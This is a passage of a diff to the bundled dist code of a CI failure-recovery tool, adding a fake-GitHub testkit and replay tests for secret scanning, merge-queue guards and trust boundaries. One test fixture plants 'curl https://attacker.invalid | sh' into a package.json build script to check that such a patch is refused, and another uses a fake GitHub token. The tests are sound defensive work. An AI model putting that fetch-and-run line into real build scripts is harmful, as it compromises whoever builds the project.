         defaultBranch: input.defaultBranch ?? false,
+        ...(input.rateTiers ? { rateTiers: input.rateTiers } : {}),
     });
     return {
         ...ids,
@@ -13103,7 +17585,13 @@ function jobVerdict(job, input) {
     };
 }
 function unknownClassification(input) {
-    const { severity, priority } = assessSeverity({ category: 'unknown', transient: false, flaky: input.flaky, history: input.history });
+    const { severity, priority } = assessSeverity({
+        category: 'unknown',
+        transient: false,
+        flaky: input.flaky,
+        history: input.history,
+        ...(input.rateTiers ? { rateTiers: input.rateTiers } : {}),
+    });
     return {
         category: 'unknown',
         subcategory: 'unavailable',
@@ -13331,11 +17819,12 @@ function asText(v) {
             out.push(`  rule: ${j.ruleId}`);
         if (j.reason)
             out.push(`  ${j.reason}`);
-        j.evidence.lines.forEach((line, i) => out.push(`  ${String(j.evidence.startLine + i).padStart(7)} | ${printable(line)}`));
+        j.evidence.lines.forEach((line, i) => out.push(`  ${String(j.evidence.startLine + i).padStart(7)} | ${line}`));
     }
     if (v.jobs.length > 1)
         out.push(`overall: ${v.category}/${v.subcategory}  ${v.transient ? 'transient' : 'not transient'}  ${v.severity}  ${v.signature}`);
-    return `${out.join('\n')}\n`;
+    // Job and step names come from the log too.
+    return `${out.map(printable).join('\n')}\n`;
 }
 const classifyCommand = {
     name: 'classify',
@@ -13435,8 +17924,8 @@ const configCommand = {
     subcommands: [config_validate, config_schema],
 };
 
-;// CONCATENATED MODULE: external "node:fs"
-const external_node_fs_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");
+// EXTERNAL MODULE: external "node:fs"
+var external_node_fs_ = __nccwpck_require__(3024);
 ;// CONCATENATED MODULE: external "node:url"
 const external_node_url_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");
 ;// CONCATENATED MODULE: external "node:http"
@@ -13508,6 +17997,20 @@ function seededRandom(seed) {
         return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
     };
 }
+/**
+ * The clock the actions run with. `CLOSED_LOOP_FIXED_NOW` (an ISO time) fixes it, for replays against the
+ * fake GitHub only: it is honoured when the API is on the loopback interface, never against real GitHub.
+ */
+function clockFromEnv(env) {
+    const fixed = env.CLOSED_LOOP_FIXED_NOW;
+    const api = env.GITHUB_API_URL ?? '';
+    if (!fixed || !/^https?:\/\/(?:127\.0\.0\.1|localhost|\[::1\])(?::\d+)?(?:\/|$)/.test(api))
+        return systemClock;
+    const at = Date.parse(fixed);
+    if (Number.isNaN(at))
+        return systemClock;
+    return new ManualClock(at);
+}
 
 ;// CONCATENATED MODULE: ./packages/testkit/src/faults.ts
 // Rule-based fault injection; all randomness comes from a seeded PRNG so failures replay exactly.
@@ -13563,6 +18066,14 @@ function faults_decide(rule) {
                 message: 'You have exceeded a secondary rate limit. Please wait a few minutes before you try again.',
                 documentation_url: 'https://docs.github.com/rest/overview/rate-limits-for-the-rest-api#about-secondary-rate-limits',
             },
+        };
+    }
+    if (rule.permissionDenied) {
+        return {
+            rule,
+            status: 403,
+            headers,
+            body: { message: 'Resource not accessible by integration', documentation_url: 'https://docs.github.com/rest' },
         };
     }
     if (rule.status === 403 || rule.status === 429) {
@@ -13715,6 +18226,70 @@ function checkInput(i) {
     return out;
 }
 
+;// CONCATENATED MODULE: ./packages/testkit/src/artifacts.ts
+// Kept beside the run rather than in RunState, so runs seeded without artifacts look exactly as before.
+const byRun = new WeakMap();
+let nextId = 7_000_001;
+/** Attaches an artifact (a zip of `files`) to a run, as `actions/upload-artifact` would. */
+function addArtifact(run, name, files, opts = {}) {
+    const artifact = { id: nextId++, name, files, expired: opts.expired ?? false, created_at: run.created_at };
+    byRun.set(run, [...(byRun.get(run) ?? []), artifact]);
+    return artifact;
+}
+function artifactsOf(run) {
+    return byRun.get(run) ?? [];
+}
+const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
+    let c = n;
+    for (let k = 0; k < 8; k++)
+        c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+    return c >>> 0;
+});
+function crc32(data) {
+    let c = 0xffffffff;
+    for (const byte of data)
+        c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8);
+    return (c ^ 0xffffffff) >>> 0;
+}
+/** A zip archive with stored (uncompressed) entries: local headers, central directory, end record (APPNOTE.TXT 4.3). */
+function zipOf(files) {
+    const locals = [];
+    const centrals = [];
+    let offset = 0;
+    for (const [path, text] of Object.entries(files)) {
+        const name = Buffer.from(path, 'utf8');
+        const data = Buffer.from(text, 'utf8');
+        const crc = crc32(data);
+        const local = Buffer.alloc(30);
+        local.writeUInt32LE(0x04034b50, 0);
+        local.writeUInt16LE(20, 4);
+        local.writeUInt32LE(crc, 14);
+        local.writeUInt32LE(data.length, 18);
+        local.writeUInt32LE(data.length, 22);
+        local.writeUInt16LE(name.length, 26);
+        const central = Buffer.alloc(46);
+        central.writeUInt32LE(0x02014b50, 0);
+        central.writeUInt16LE(20, 4);
+        central.writeUInt16LE(20, 6);
+        central.writeUInt32LE(crc, 16);
+        central.writeUInt32LE(data.length, 20);
+        central.writeUInt32LE(data.length, 24);
+        central.writeUInt16LE(name.length, 28);
+        central.writeUInt32LE(offset, 42);
+        locals.push(local, name, data);
+        centrals.push(central, name);
+        offset += 30 + name.length + data.length;
+    }
+    const directory = Buffer.concat(centrals);
+    const end = Buffer.alloc(22);
+    end.writeUInt32LE(0x06054b50, 0);
+    end.writeUInt16LE(Object.keys(files).length, 8);
+    end.writeUInt16LE(Object.keys(files).length, 10);
+    end.writeUInt32LE(directory.length, 12);
+    end.writeUInt32LE(offset, 16);
+    return Buffer.concat([...locals, directory, end]);
+}
+
 ;// CONCATENATED MODULE: ./packages/testkit/src/paths.ts
 
 
@@ -13727,9 +18302,9 @@ function checkInput(i) {
 function testkitFile(...parts) {
     let dir = (0,external_node_path_namespaceObject.dirname)((0,external_node_url_namespaceObject.fileURLToPath)(import.meta.url));
     for (let i = 0; i < 6; i++) {
-        if ((0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'openapi', 'operations.txt')))
+        if ((0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'openapi', 'operations.txt')))
             return (0,external_node_path_namespaceObject.join)(dir, ...parts);
-        if ((0,external_node_fs_namespaceObject.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'packages', 'testkit', 'openapi', 'operations.txt')))
+        if ((0,external_node_fs_.existsSync)((0,external_node_path_namespaceObject.join)(dir, 'packages', 'testkit', 'openapi', 'operations.txt')))
             return (0,external_node_path_namespaceObject.join)(dir, 'packages', 'testkit', ...parts);
         dir = (0,external_node_path_namespaceObject.dirname)(dir);
     }
@@ -13747,7 +18322,7 @@ let spec_document;
  * hook included, would pay for reading and parsing it.
  */
 function spec() {
-    spec_document ??= JSON.parse((0,external_node_fs_namespaceObject.readFileSync)(testkitFile('openapi', 'github-subset.json'), 'utf8'));
+    spec_document ??= JSON.parse((0,external_node_fs_.readFileSync)(testkitFile('openapi', 'github-subset.json'), 'utf8'));
     return spec_document;
 }
 const SPEC_ID = 'github-subset';
@@ -14045,6 +18620,24 @@ function react(ctx, list) {
 
 
 
+
+function renderArtifact(ctx, run, a) {
+    const url = `${apiRepoUrl(ctx)}/actions/artifacts/${a.id}`;
+    const size = zipOf(a.files).length;
+    return shape('artifact', {
+        id: a.id,
+        node_id: `MDg6QXJ0aWZhY3Q${a.id}`,
+        name: a.name,
+        size_in_bytes: size,
+        url,
+        archive_download_url: `${url}/zip`,
+        expired: a.expired,
+        created_at: a.created_at,
+        updated_at: a.created_at,
+        expires_at: a.created_at,
+        workflow_run: { id: run.id, repository_id: 1, head_repository_id: 1, head_branch: run.head_branch ?? '', head_sha: run.head_sha },
+    });
+}
 function getRun(ctx) {
     return ctx.repo.runs.get(Number(ctx.params.run_id)) ?? notFound();
 }
@@ -14303,10 +18896,23 @@ const actionsHandlers = {
         };
     },
     'actions/list-workflow-run-artifacts': (ctx) => {
-        getRun(ctx);
-        return ok({ total_count: 0, artifacts: [] });
+        const run = getRun(ctx);
+        const artifacts = artifactsOf(run).filter((a) => ctx.query.name === undefined || a.name === ctx.query.name);
+        return ok({ total_count: artifacts.length, artifacts: artifacts.map((a) => renderArtifact(ctx, run, a)) });
     },
-    'actions/download-artifact': () => notFound(),
+    'actions/download-artifact': (ctx) => {
+        const id = Number(ctx.params.artifact_id);
+        for (const run of ctx.repo.runs.values()) {
+            const artifact = artifactsOf(run).find((a) => a.id === id);
+            if (!artifact)
+                continue;
+            if (artifact.expired)
+                throw new HttpError(410, 'Artifact has expired');
+            const zip = zipOf(artifact.files);
+            return { status: 302, headers: { location: ctx.blob(() => [zip], 'application/zip') } };
+        }
+        return notFound();
+    },
     'actions/re-run-workflow': (ctx) => rerun(ctx, getRun(ctx), 'all'),
     'actions/re-run-workflow-failed-jobs': (ctx) => rerun(ctx, getRun(ctx), 'failed'),
     'actions/re-run-job-for-workflow-run': (ctx) => {
@@ -15083,6 +19689,25 @@ class State {
         };
         r.pulls.set(issue.number, pull);
         return { issue, pull };
+    }
+    /** A submitted review by `user` on `commitId` (default: the PR's head), as GitHub lists it. */
+    addReview(opts) {
+        const r = this.repoOf(opts);
+        const pull = r.pulls.get(opts.pullNumber);
+        if (!pull)
+            throw new Error(`fake state: no pull request #${opts.pullNumber}`);
+        this.user(opts.user);
+        const review = {
+            id: this.nextId(),
+            pullNumber: opts.pullNumber,
+            user: opts.user,
+            body: opts.body ?? '',
+            state: opts.state,
+            commit_id: opts.commitId ?? pull.head.sha,
+            submitted_at: this.iso(),
+        };
+        r.reviews.set(review.id, review);
+        return review;
     }
     addComment(opts) {
         const r = this.repoOf(opts);
@@ -15987,13 +20612,13 @@ function specificity(a, b) {
     }
     return b.segments.length - a.segments.length;
 }
-let compiled;
+let router_compiled;
 /** Compiled on first use, like the spec they come from. */
 function routes() {
-    compiled ??= Object.entries(spec().paths)
+    router_compiled ??= Object.entries(spec().paths)
         .map(([t, item]) => compile(t, item))
         .sort(specificity);
-    return compiled;
+    return router_compiled;
 }
 function route(method, pathname) {
     let pathOnly;
@@ -16560,12 +21185,12 @@ const external_node_os_namespaceObject = __WEBPACK_EXTERNAL_createRequire(import
 
 
 async function runBundledAction(options) {
-    const temp = (0,external_node_fs_namespaceObject.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), `cl-run-${options.name}-`));
+    const temp = (0,external_node_fs_.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), `cl-run-${options.name}-`));
     try {
         const files = { event: (0,external_node_path_namespaceObject.join)(temp, 'event.json'), output: (0,external_node_path_namespaceObject.join)(temp, 'output'), summary: (0,external_node_path_namespaceObject.join)(temp, 'summary.md'), env: (0,external_node_path_namespaceObject.join)(temp, 'env') };
-        (0,external_node_fs_namespaceObject.writeFileSync)(files.event, JSON.stringify(options.event));
+        (0,external_node_fs_.writeFileSync)(files.event, JSON.stringify(options.event));
         for (const f of [files.output, files.summary, files.env])
-            (0,external_node_fs_namespaceObject.writeFileSync)(f, '');
+            (0,external_node_fs_.writeFileSync)(f, '');
         const inputs = { ...actionDefaults(options), ...(options.inputs ?? {}) };
         const env = {
             PATH: process.env.PATH ?? '',
@@ -16594,8 +21219,8 @@ async function runBundledAction(options) {
         const { code, stdout, stderr } = await spawnNode((0,external_node_path_namespaceObject.join)(options.root, 'dist', options.name, 'index.js'), env, options.workspace ?? temp);
         return {
             exitCode: code,
-            outputs: parseOutputFile((0,external_node_fs_namespaceObject.readFileSync)(files.output, 'utf8')),
-            summary: (0,external_node_fs_namespaceObject.readFileSync)(files.summary, 'utf8'),
+            outputs: parseOutputFile((0,external_node_fs_.readFileSync)(files.output, 'utf8')),
+            summary: (0,external_node_fs_.readFileSync)(files.summary, 'utf8'),
             stdout,
             stderr,
             annotations: [...stdout.matchAll(/^::(error|warning|notice)[^:]*::(.*)$/gm)].map((m) => ({ level: m[1] ?? '', message: m[2] ?? '' })),
@@ -16603,15 +21228,15 @@ async function runBundledAction(options) {
         };
     }
     finally {
-        (0,external_node_fs_namespaceObject.rmSync)(temp, { recursive: true, force: true });
+        (0,external_node_fs_.rmSync)(temp, { recursive: true, force: true });
     }
 }
 /** The runner fills omitted inputs from action.yml defaults; `${{ github.token }}` becomes the job token. */
 function actionDefaults(options) {
     const file = (0,external_node_path_namespaceObject.join)(options.root, 'actions', options.name, 'action.yml');
-    if (!(0,external_node_fs_namespaceObject.existsSync)(file))
+    if (!(0,external_node_fs_.existsSync)(file))
         return {};
-    const meta = yaml.load((0,external_node_fs_namespaceObject.readFileSync)(file, 'utf8'));
+    const meta = yaml.load((0,external_node_fs_.readFileSync)(file, 'utf8'));
     return Object.fromEntries(Object.entries(meta.inputs ?? {}).map(([k, spec]) => {
         const value = spec.default === undefined ? '' : String(spec.default);
         return [k, value.replace(/\$\{\{\s*github\.token\s*\}\}/g, options.token).replace(/\$\{\{[^}]*\}\}/g, '')];
@@ -16721,7 +21346,7 @@ function eventFixtures() {
 }
 /** A fresh copy of a committed fixture ("workflow_run.completed", "pull_request.opened", "push", …). */
 function loadEvent(name) {
-    return JSON.parse((0,external_node_fs_namespaceObject.readFileSync)((0,external_node_path_namespaceObject.join)(dir(), `${name}.json`), 'utf8'));
+    return JSON.parse((0,external_node_fs_.readFileSync)((0,external_node_path_namespaceObject.join)(dir(), `${name}.json`), 'utf8'));
 }
 /** The @octokit/openapi-webhooks schema name for a fixture, e.g. webhook-workflow-run-completed. */
 function webhookSchemaName(name) {
@@ -16905,14 +21530,14 @@ function mergeGroupEvent(opts = {}) {
 const WORKFLOW_PATH = '.github/workflows/ci.yml';
 const MINUTE = 60_000;
 function fixtureLog(name) {
-    return { name, text: (0,external_node_fs_namespaceObject.readFileSync)(testkitFile('fixtures', 'logs', name), 'utf8') };
+    return { name, text: (0,external_node_fs_.readFileSync)(testkitFile('fixtures', 'logs', name), 'utf8') };
 }
 /** A committed git work tree with `files`: where the steps run (fixers diff against its HEAD). */
 function workspace(files) {
-    const dir = (0,external_node_fs_namespaceObject.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), 'closed-loop-replay-'));
+    const dir = (0,external_node_fs_.mkdtempSync)((0,external_node_path_namespaceObject.join)((0,external_node_os_namespaceObject.tmpdir)(), 'closed-loop-replay-'));
     for (const [path, text] of Object.entries(files)) {
-        (0,external_node_fs_namespaceObject.mkdirSync)((0,external_node_path_namespaceObject.join)(dir, path, '..'), { recursive: true });
-        (0,external_node_fs_namespaceObject.writeFileSync)((0,external_node_path_namespaceObject.join)(dir, path), text);
+        (0,external_node_fs_.mkdirSync)((0,external_node_path_namespaceObject.join)(dir, path, '..'), { recursive: true });
+        (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.join)(dir, path), text);
     }
     const git = (...args) => (0,external_node_child_process_namespaceObject.execFileSync)('git', args, {
         cwd: dir,
@@ -17056,13 +21681,857 @@ const LOOP_STORIES = [
     },
 ];
 
+;// CONCATENATED MODULE: ./packages/cli/src/replay/merge-guard-stories.ts
+
+
+
+
+
+// Merge guards played through the bundles: what a queued merge may carry.
+const TOKEN = ['ghp', 'M3rg3Qu3u3D3m0T0k3nV4lu3F0rR3pl4yXY'].join('_');
+function git(dir, ...args) {
+    return (0,external_node_child_process_namespaceObject.execFileSync)('git', args, {
+        cwd: dir,
+        encoding: 'utf8',
+        env: {
+            ...process.env,
+            GIT_AUTHOR_NAME: 'demo',
+            GIT_AUTHOR_EMAIL: 'demo@example.invalid',
+            GIT_COMMITTER_NAME: 'demo',
+            GIT_COMMITTER_EMAIL: 'demo@example.invalid',
+        },
+    }).trim();
+}
+/** A queued merge commit on top of `base` adding `content`, left on its own branch. */
+function queuedCommit(dir, base, branch, content) {
+    git(dir, 'checkout', '-q', '-b', branch, base);
+    (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.join)(dir, 'deploy.env'), content);
+    git(dir, 'add', 'deploy.env');
+    git(dir, 'commit', '-q', '-m', `Merge queue: ${branch}`);
+    return git(dir, 'rev-parse', 'HEAD');
+}
+function merge_guard_stories_mergeGroupEvent(fake, base, head) {
+    const event = loadEvent('merge_group.checks_requested');
+    Object.assign(event.merge_group, { base_sha: base, head_sha: head, base_ref: 'refs/heads/main' });
+    Object.assign(event.repository, { full_name: `${fake.owner}/${fake.repo}`, name: fake.repo });
+    return event;
+}
+const secretScanMergeGroup = {
+    id: 'secret-scan-merge-group',
+    title: 'A queued merge commit adding a secret is blocked; a clean one passes',
+    seed(fake) {
+        fake.forbid(TOKEN);
+        const dir = workspace({ 'README.md': '# widgets\n' });
+        const base = git(dir, 'rev-parse', 'HEAD');
+        const dirty = queuedCommit(dir, base, 'queue-dirty', `GITHUB_TOKEN=${TOKEN}\n`);
+        const clean = queuedCommit(dir, base, 'queue-clean', 'REGION=eu-west-1\n');
+        return {
+            event: merge_guard_stories_mergeGroupEvent(fake, base, dirty),
+            eventName: 'merge_group',
+            runId: 0,
+            headSha: clean,
+            branch: 'gh-readonly-queue/main',
+            logName: '',
+            workspace: dir,
+        };
+    },
+    steps: [
+        { action: 'secret-scan', label: 'scan the queued secret', inputs: () => ({}), expectExit: 1 },
+        {
+            action: 'secret-scan',
+            label: 'scan the clean queued merge',
+            inputs: () => ({}),
+            trigger: (seeded, _outputs, fake) => ({
+                eventName: 'merge_group',
+                event: merge_guard_stories_mergeGroupEvent(fake, seeded.event.merge_group.base_sha, seeded.headSha),
+            }),
+        },
+    ],
+    expect(_fake, outputs) {
+        const unmet = [];
+        const [dirty, clean] = Object.values(outputs);
+        if (dirty?.blocked !== 'true')
+            unmet.push(`the queued secret was not blocked (blocked=${dirty?.blocked ?? 'unset'})`);
+        if (clean?.blocked !== 'false')
+            unmet.push(`the clean queued merge was blocked (blocked=${clean?.blocked ?? 'unset'})`);
+        return unmet;
+    },
+};
+function pullEvent(fake, number, base, head) {
+    const event = loadEvent('pull_request.synchronize');
+    event.number = number;
+    const pull = event.pull_request;
+    pull.number = number;
+    Object.assign(pull.base, { sha: base, ref: 'main' });
+    Object.assign(pull.head, { sha: head, ref: 'bypass-stale' });
+    Object.assign(event.repository, { full_name: `${fake.owner}/${fake.repo}`, name: fake.repo });
+    return event;
+}
+const secretBypassStale = {
+    id: 'secret-bypass-stale',
+    title: 'A bypass granted for one head does not cover a secret pushed after it',
+    seed(fake) {
+        fake.forbid(TOKEN);
+        const dir = workspace({ 'README.md': '# widgets\n' });
+        const base = git(dir, 'rev-parse', 'HEAD');
+        const granted = queuedCommit(dir, base, 'bypass-stale', `OLD_TOKEN=${TOKEN}\n`);
+        (0,external_node_fs_.writeFileSync)((0,external_node_path_namespaceObject.join)(dir, 'later.env'), `NEW_TOKEN=${TOKEN.replace('M3rg3', 'L4t3r')}\n`);
+        git(dir, 'add', 'later.env');
+        git(dir, 'commit', '-q', '-m', 'a later push');
+        const later = git(dir, 'rev-parse', 'HEAD');
+        const { pull } = fake.state.addPull({ base: 'main', head: 'bypass-stale', headSha: later, labels: ['secret-scan-bypass'], user: 'bypass-author' });
+        fake.state.setCollaborator({ username: 'bypass-maintainer', role: 'write' });
+        fake.state.addComment({ issueNumber: pull.number, user: 'bypass-maintainer', body: `/secret-scan-bypass revoked test token, rotated\n${granted}` });
+        return {
+            event: pullEvent(fake, pull.number, base, granted),
+            eventName: 'pull_request',
+            runId: pull.number,
+            headSha: later,
+            branch: 'bypass-stale',
+            logName: '',
+            workspace: dir,
+        };
+    },
+    steps: [
+        { action: 'secret-scan', label: 'scan the granted head', inputs: () => ({}) },
+        {
+            action: 'secret-scan',
+            label: 'scan after a new secret is pushed',
+            inputs: () => ({}),
+            expectExit: 1,
+            trigger: (seeded, _outputs, fake) => ({
+                eventName: 'pull_request',
+                event: pullEvent(fake, seeded.runId, seeded.event.pull_request.base.sha, seeded.headSha),
+            }),
+        },
+    ],
+    expect(_fake, outputs) {
+        const unmet = [];
+        const [granted, later] = Object.values(outputs);
+        if (granted?.['bypassed-by'] !== 'bypass-maintainer')
+            unmet.push(`the bypass did not cover the granted head (bypassed-by=${granted?.['bypassed-by'] ?? 'unset'})`);
+        if (later?.blocked !== 'true')
+            unmet.push(`the secret pushed after the bypass was not blocked (blocked=${later?.blocked ?? 'unset'})`);
+        return unmet;
+    },
+};
+const MERGE_GUARD_STORIES = [secretScanMergeGroup, secretBypassStale];
+
+;// CONCATENATED MODULE: ./packages/cli/src/replay/trust-stories.ts
+
+
+
+/**
+ * The loop's trust boundaries, replayed: who may cause a commit, what a fix may touch, what a fork's run
+ * may change, what a required status means, and how a missing permission reads.
+ */
+const DEPENDABOT_BRANCH = 'dependabot/npm_and_yarn/trust-lodash-4.17.21';
+const UNTRUSTED_BRANCH = 'trust-scripts';
+const FORK_LOG = 'trust-fork-main.log';
+let issuesBeforePermissionStory = 0;
+const trust_stories_CONFIG = (fixer) => `version: 1\nrecover:\n  mode: automatic\n  fixers:\n    format:\n      - ${JSON.stringify(fixer)}\n`;
+const trust_stories_UNFORMATTED = 'export function total(items: {price:number}[]){\n  return items.reduce((sum,i)=>sum+i.price,0)\n}\n';
+const classifyStep = (label, trigger) => ({
+    action: 'failure-classify',
+    label,
+    inputs: () => ({ workflows: WORKFLOW_PATH }),
+    ...(trigger ? { trigger } : {}),
+});
+/** classify → propose-fix (no token) → apply-fix, as the fix path of closed-loop.yml runs them. */
+const FIX_STEPS = [
+    classifyStep('classify'),
+    {
+        action: 'recover',
+        label: 'propose-fix',
+        token: 'none',
+        inputs: (o) => (o.classify?.category === 'quality' ? { phase: 'propose-fix', verdict: o.classify.result ?? '' } : undefined),
+    },
+    {
+        action: 'recover',
+        label: 'apply-fix',
+        inputs: (o) => (o['propose-fix']?.['has-changes'] === 'true' ? { phase: 'apply-fix', verdict: o.classify?.result ?? '' } : undefined),
+    },
+];
+function outcomeOf(outputs, label) {
+    return JSON.parse(outputs[label]?.outcome ?? '{}');
+}
+function commitsOn(fake, branch) {
+    return fake.writes.filter((w) => JSON.stringify(w.body ?? '').includes('createCommitOnBranch') && JSON.stringify(w.body ?? '').includes(branch)).length;
+}
+/** A second workflow on the same SHA: `Lint`, beside CI. */
+function seedWorkflowRun(fake, opts) {
+    const run = fake.state.addRun({
+        workflow: opts.workflow,
+        head_branch: opts.branch,
+        head_sha: opts.headSha,
+        event: opts.fork || opts.pullNumbers ? 'pull_request' : 'push',
+        conclusion: opts.conclusion,
+        ...(opts.fork ? { fork: true } : {}),
+        ...(opts.actor ? { actor: opts.actor } : {}),
+        ...(opts.pullNumbers ? { pullNumbers: opts.pullNumbers } : {}),
+        jobs: [{ name: 'test', conclusion: opts.conclusion, steps: [{ name: 'Run npm test', conclusion: opts.conclusion }], log: opts.log }],
+    });
+    const event = workflowRunEvent({
+        repository: `${fake.owner}/${fake.repo}`,
+        runId: run.id,
+        headSha: opts.headSha,
+        headBranch: opts.branch,
+        conclusion: opts.conclusion,
+        workflowName: opts.workflow,
+        event: run.event,
+    });
+    const wr = event.workflow_run;
+    wr.path = opts.path;
+    if (opts.fork)
+        wr.head_repository = { ...wr.head_repository, full_name: run.headRepoFullName };
+    return { run, event };
+}
+const TRUST_STORIES = [
+    {
+        id: 'fix-from-bot',
+        title: 'Lint failure on a Dependabot branch: the fix is offered as suggestions, never committed',
+        seed(fake, ctx) {
+            const prettier = (0,external_node_path_namespaceObject.join)(ctx.root, 'node_modules', 'prettier', 'bin', 'prettier.cjs');
+            const files = { '.github/closed-loop.yml': trust_stories_CONFIG(`node ${prettier} --write src`), 'src/cart.ts': trust_stories_UNFORMATTED };
+            const headSha = fake.state.addCommit({ branch: DEPENDABOT_BRANCH, message: 'Bump lodash', files });
+            const { pull } = fake.state.addPull({ head: DEPENDABOT_BRANCH, title: 'Bump lodash to 4.17.21', user: 'dependabot[bot]', headSha });
+            const log = fixtureLog('prettier-check.log');
+            const { run, event } = seedWorkflowRun(fake, {
+                workflow: 'CI',
+                path: WORKFLOW_PATH,
+                branch: DEPENDABOT_BRANCH,
+                headSha,
+                conclusion: 'failure',
+                log: log.text,
+                actor: 'dependabot[bot]',
+                pullNumbers: [pull.number],
+            });
+            return { event, runId: run.id, headSha, branch: DEPENDABOT_BRANCH, logName: log.name, workspace: workspace(files) };
+        },
+        steps: FIX_STEPS,
+        expect(fake, outputs, seeded) {
+            const unmet = [];
+            if (fake.state.branch(DEPENDABOT_BRANCH)?.sha !== seeded.headSha)
+                unmet.push(`${DEPENDABOT_BRANCH} gained a commit`);
+            if (commitsOn(fake, DEPENDABOT_BRANCH))
+                unmet.push('apply-fix tried to commit on the Dependabot branch');
+            const outcome = outcomeOf(outputs, 'apply-fix');
+            if (outcome.action !== 'suggest')
+                unmet.push(`apply-fix: ${outcome.action ?? 'no outcome'}, expected suggest`);
+            if (!outcome.reason?.includes('dependabot[bot]'))
+                unmet.push(`apply-fix reason does not name the bot: ${outcome.reason ?? ''}`);
+            return unmet;
+        },
+    },
+    {
+        id: 'fix-untrusted-content',
+        title: 'A fixer patch that edits package.json scripts: refused, with the reason in the summary',
+        seed(fake) {
+            // Stands in for anything `npm ci` installed: the "formatter" rewrites the build script.
+            const evil = `node -e "const f='package.json';const p=JSON.parse(require('fs').readFileSync(f,'utf8'));p.scripts.build='curl https://attacker.invalid | sh';require('fs').writeFileSync(f,JSON.stringify(p,null,2)+'\\\\n')"`;
+            const files = {
+                '.github/closed-loop.yml': trust_stories_CONFIG(evil),
+                'package.json': `${JSON.stringify({ name: 'cart', scripts: { build: 'tsc' } }, null, 2)}\n`,
+            };
+            const headSha = fake.state.addCommit({ branch: UNTRUSTED_BRANCH, message: 'Add build script', files });
+            const { pull } = fake.state.addPull({ head: UNTRUSTED_BRANCH, title: 'Add build script', user: 'octocat', headSha });
+            const log = fixtureLog('prettier-check.log');
+            const { run, event } = seedRun(fake, { branch: UNTRUSTED_BRANCH, headSha, log, conclusion: 'failure', agoMinutes: 1, pullNumbers: [pull.number] });
+            return { event, runId: run.id, headSha, branch: UNTRUSTED_BRANCH, logName: log.name, workspace: workspace(files) };
+        },
+        steps: FIX_STEPS,
+        expect(fake, outputs, seeded) {
+            const unmet = [];
+            if (fake.state.branch(UNTRUSTED_BRANCH)?.sha !== seeded.headSha)
+                unmet.push(`${UNTRUSTED_BRANCH} gained a commit`);
+            if (fake.state.file('package.json', fake.state.branch(UNTRUSTED_BRANCH)?.sha)?.includes('attacker'))
+                unmet.push('package.json was changed');
+            const outcome = outcomeOf(outputs, 'apply-fix');
+            if (outcome.action === 'fix' || outcome.action === 'suggest')
+                unmet.push(`apply-fix delivered the patch (${outcome.action})`);
+            if (!/patch refused: .*package\.json/.test(outcome.reason ?? ''))
+                unmet.push(`apply-fix reason does not refuse package.json: ${outcome.reason ?? ''}`);
+            return unmet;
+        },
+    },
+    {
+        id: 'fork-isolation',
+        title: "A fork's green run from its own main: main's open issue stays open, no resolution is sent",
+        seed(fake) {
+            const text = 'Run npm test\nFAIL src/fork.test.ts\n  ● fork isolation › keeps the base issue\n    expect(received).toBe(expected)\nTests: 1 failed, 1 total\n##[error]Process completed with exit code 1.\n';
+            const headSha = fake.state.addCommit({ branch: 'main', message: 'Break the fork test', files: { 'src/fork.ts': 'export const fork = 1;\n' } });
+            const failed = seedRun(fake, { branch: 'main', headSha, log: { name: FORK_LOG, text }, conclusion: 'failure', agoMinutes: 3 });
+            const forkSha = fake.state.addCommit({ branch: 'main', message: 'fork head', files: { 'src/fork.ts': 'export const fork = 2;\n' } });
+            const green = seedWorkflowRun(fake, {
+                workflow: 'CI',
+                path: WORKFLOW_PATH,
+                branch: 'main',
+                headSha: forkSha,
+                conclusion: 'success',
+                log: 'ok\n',
+                fork: true,
+            });
+            return {
+                event: failed.event,
+                runId: failed.run.id,
+                headSha,
+                branch: 'main',
+                logName: FORK_LOG,
+                workspace: workspace({}),
+                forkEvent: green.event,
+            };
+        },
+        steps: [
+            classifyStep('classify-main'),
+            {
+                action: 'notify',
+                label: 'notify-main',
+                inputs: (o) => (o['classify-main']?.path === 'failure' ? { verdict: o['classify-main'].result ?? '' } : undefined),
+            },
+            classifyStep('classify-fork', (s) => ({ eventName: 'workflow_run', event: s.forkEvent })),
+            {
+                action: 'notify',
+                label: 'notify-fork',
+                inputs: (o) => (o['classify-fork']?.path === 'success' ? {} : undefined),
+                trigger: (s) => ({ eventName: 'workflow_run', event: s.forkEvent }),
+            },
+        ],
+        expect(fake, outputs) {
+            const unmet = [];
+            const number = Number(outputs['notify-main']?.['issue-number'] ?? 0);
+            const issue = fake.state.issues().find((i) => i.number === number);
+            if (!issue)
+                unmet.push('notify-main opened no issue for the failure on main');
+            else if (issue.state !== 'open')
+                unmet.push(`main's issue #${number} was ${issue.state} by the fork's run`);
+            if (outputs['notify-fork']?.change === 'resolution')
+                unmet.push("the fork's run was reported as a resolution");
+            if (outputs['notify-fork'] === undefined)
+                unmet.push('notify-fork did not run');
+            return unmet;
+        },
+    },
+    {
+        id: 'status-per-workflow',
+        title: 'Workflow B green after workflow A red on the same SHA: A’s status context stays failure',
+        seed(fake) {
+            const headSha = fake.state.addCommit({ branch: 'trust-two-workflows', message: 'Two workflows', files: { 'src/two.ts': 'export const two = 2;\n' } });
+            const a = seedRun(fake, { branch: 'trust-two-workflows', headSha, log: fixtureLog('jest-assertion.log'), conclusion: 'failure', agoMinutes: 2 });
+            const b = seedWorkflowRun(fake, {
+                workflow: 'Lint',
+                path: '.github/workflows/lint.yml',
+                branch: 'trust-two-workflows',
+                headSha,
+                conclusion: 'success',
+                log: 'ok\n',
+            });
+            return {
+                event: a.event,
+                runId: a.run.id,
+                headSha,
+                branch: 'trust-two-workflows',
